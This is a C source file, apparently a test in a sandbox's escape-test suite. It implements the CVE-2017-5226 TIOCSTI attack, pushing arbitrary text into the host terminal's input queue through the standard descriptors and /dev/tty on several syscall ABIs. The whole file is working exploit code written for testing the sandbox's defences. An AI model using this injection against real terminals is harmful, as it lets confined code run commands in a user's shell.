/* moat-escape-tiocsti TEXT
 *
 * CVE-2017-5226: TIOCSTI pushes bytes into the input queue of the
 * terminal, where the host's shell reads them as typed once the sandbox
 * has ended. The attack pushes TEXT through stdin, stdout, stderr and
 * /dev/tty (ioctl TIOCSTI, through the x86_64, x32 and i386 entries). The suite runs moat
 * on a pty it owns and judges by whether TEXT arrived in the terminal's
 * input queue or was echoed to the master. Exits ESC_ESCAPED if any byte
 * was pushed. */
#include "escape.h"

#include <sys/ioctl.h>

#define NR32_IOCTL 54

static const char *text;

static int inject(enum esc_abi abi, int fd) {
  char *low = esc_low(1);
  long rc = -1;
  int pushed = 0;
  for (const char *c = text; *c && low; ++c) {
    *low = *c;
    rc = esc_syscall(abi, SYS_ioctl, NR32_IOCTL, fd, TIOCSTI, (long)low, 0, 0);
    if (rc < 0)
      break;
    pushed = 1;
  }
  char what[64];
  snprintf(what, sizeof what, "fd %d: ioctl(TIOCSTI) %s", fd, esc_abi_name[abi]);
  esc_note(what, rc);
  return pushed;
}

static int attack(enum esc_abi abi, void *unused) {
  (void)unused;
  int pushed = 0;
  for (int fd = 0; fd <= 2; ++fd)
    pushed |= inject(abi, fd);
  int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
  if (tty >= 0)
    pushed |= inject(abi, tty);
  else
    esc_note("open(/dev/tty)", -1);
  return pushed ? ESC_ESCAPED : ESC_OK;
}

int main(int argc, char **argv) {
  if (argc != 2)
    return ESC_USAGE;
  esc_deadline(10);
  text = argv[1];
  return esc_each_abi(attack, NULL);
}
